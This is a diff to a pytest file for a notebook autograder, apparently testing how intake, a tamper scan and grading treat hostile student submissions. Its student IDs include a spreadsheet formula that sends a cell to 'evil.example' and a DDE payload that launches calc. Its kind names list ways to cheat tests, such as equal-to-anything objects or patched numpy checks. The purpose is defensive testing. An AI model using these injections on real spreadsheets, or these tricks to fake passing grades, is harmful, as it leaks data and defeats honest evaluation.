@@ -4,8 +4,12 @@ Each kind of bad submission is a function below, named after what it does, that 
 student's 01-slope folder; its `Expect` says what grading must make of it: the score it may get
 (never more than honest work earns), the reason it could not be graded, or the flag that sends it to
 the instructor for review, and what the student's code saw when it reached for what is not its own.
-All of them, with two honest students, are graded by one `gdgrade autograde` run under
-tight limits (a 20 s deadline per notebook), and the honest students must keep their exact scores.
+Kinds that intake or the tamper scan settle before any kernel starts (SETTLED_BEFORE_THE_KERNEL: a
+refused file, a restored test cell, a flagged line) are checked by running that intake on them, without a
+kernel; a sample of them (IN_THE_BATCH_TOO) and every other kind, with two honest students, are graded by
+one `gdgrade autograde` run under tight limits (a 20 s deadline per notebook), and the honest students
+must keep their exact scores. tests/test_intake.py and tests/test_tamper_scan.py check the same
+refusals, restorations and flags as units.
 """
 
 from __future__ import annotations
@@ -86,6 +90,24 @@ class Class:
 
 
 KINDS: dict[str, tuple[Callable[[Class, str], None], Expect]] = {}
+# What intake refuses, restores or flags, and what the tamper scan flags, in the submission's files alone.
+SETTLED_BEFORE_THE_KERNEL = {
+    # refused: tests/test_intake.py (invalid JSON, empty file, v3, metadata, cells, UTF-8, missing notebook, size cap)
+    "invalid_json", "empty_file", "nbformat_version_3", "unreadable_metadata", "cells_are_not_a_list", "not_utf8",
+    "misnamed_notebook", "empty_folder", "enormous_notebook",
+    # restored from the release and flagged: tests/test_intake.py (edited, deleted, points, copies, metadata, markdown,
+    # unknown grade_id, kernel)
+    "changes_the_kernel", "deletes_the_test_cells", "duplicates_the_graded_cells", "edits_the_test_cells",
+    "invents_a_graded_cell", "raises_the_points_of_its_tests", "turns_an_answer_into_a_graded_test",
+    "turns_its_tests_into_markdown",
+    # flagged by the tamper scan: tests/test_tamper_scan.py (dunders, module patches, builtins, IPython hooks)
+    "answers_with_an_object_equal_to_anything", "empties_every_later_cell", "fakes_a_float_with_type",
+    "fakes_equality_after_the_class_body", "patches_numpy_checks", "replaces_abs_for_the_tests",
+    "sets_array_ufunc_after_the_class_body", "shadows_abs_through_main_dict", "swallows_its_errors",
+}
+# One of each way, graded end to end as well: a refusal in the report, restored tests scoring what the answers earn
+# (0, and the release's points however many the student gave them), a scan flag marked for review in the gradebook.
+IN_THE_BATCH_TOO = {"invalid_json", "edits_the_test_cells", "raises_the_points_of_its_tests", "patches_numpy_checks"}
 
 
 def kind(expect: Expect):
@@ -500,6 +522,7 @@ def enormous_notebook(c, s):
     c.hand_in(s, nb)
 
 
+IN_THE_BATCH = [name for name in KINDS if name not in SETTLED_BEFORE_THE_KERNEL or name in IN_THE_BATCH_TOO]
 HONEST = {"good": FULL, "partial": FULL - 2}
 HOSTILE_IDS = ["[g]ood", "*", '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"grades")',
                "@SUM(1+9)*cmd|' -C calc'!A0"]
@@ -530,8 +553,8 @@ def graded(tmp_path_factory) -> Graded:
               read(root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), listener.getsockname()[1])
     c.hand_in("good", c.solved())
     c.hand_in("partial", c.solved(**{CUBIC: "def slope_of_5x3(x):\n    return 3 * x ** 2"}))
-    for name, (build, _) in KINDS.items():
-        build(c, name)
+    for name in IN_THE_BATCH:
+        KINDS[name][0](c, name)
     for name in HOSTILE_IDS:  # folders that nbgrader would read as patterns, or a spreadsheet as formulas
         c.hand_in(name, c.solved())
     os.makedirs(os.path.join(os.fsencode(root / "grading" / "submitted"), b"bad\xff", ASSIGNMENT.encode()))
@@ -561,9 +584,39 @@ def saw(graded: Graded, student: str) -> str:
 def test_there_are_at_least_25_kinds():
     """Does the suite try at least 25 distinct kinds of bad submission?"""
     assert len(KINDS) >= 25, sorted(KINDS)
+    assert SETTLED_BEFORE_THE_KERNEL <= set(KINDS) and IN_THE_BATCH_TOO <= SETTLED_BEFORE_THE_KERNEL
 
 
-@pytest.mark.parametrize("name", list(KINDS))
+@pytest.fixture(scope="module")
+def taken_in(tmp_path_factory) -> dict[str, tuple[dict, list[str], list[str]]]:
+    """Every kind settled before the kernel, handed in and taken in as the batch takes it in (no kernel, no grading):
+    by student, the notebooks staged for grading, the review flags, and the reasons for a refusal."""
+    from gdgrade.course import layout
+    from gdgrade.untrusted.intake import take_in
+
+    root = tmp_path_factory.mktemp("intake") / "course"
+    new_course(root, [ASSIGNMENT])
+    assert course_api(root).generate_assignment(ASSIGNMENT, force=True, create=True)["success"]
+    c = Class(root, read(root / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
+              read(root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), 0)
+    course = layout(course_config(root))
+    for name in SETTLED_BEFORE_THE_KERNEL:
+        KINDS[name][0](c, name)
+    return {name: take_in(course, name, ASSIGNMENT) for name in SETTLED_BEFORE_THE_KERNEL}
+
+
+@pytest.mark.parametrize("name", sorted(SETTLED_BEFORE_THE_KERNEL))
+def test_kind_is_settled_before_any_kernel_starts(taken_in, name):
+    """Is this kind refused with its reason, or taken in with its review flag, by intake and the tamper scan alone?"""
+    expect = KINDS[name][1]
+    staged, flags, refused = taken_in[name]
+    if expect.failure:
+        assert not staged and any(expect.failure in reason for reason in refused), (staged, refused)
+    else:
+        assert staged and any(expect.flag in flag for flag in flags), f"{name}: no flag mentions {expect.flag!r}: {flags}"
+
+
+@pytest.mark.parametrize("name", IN_THE_BATCH)
 def test_bad_submission_gets_what_it_deserves(graded, name):
     """Does this kind of bad submission get its expected score, failure or flag, listed in the report with why?"""
     expect = KINDS[name][1]
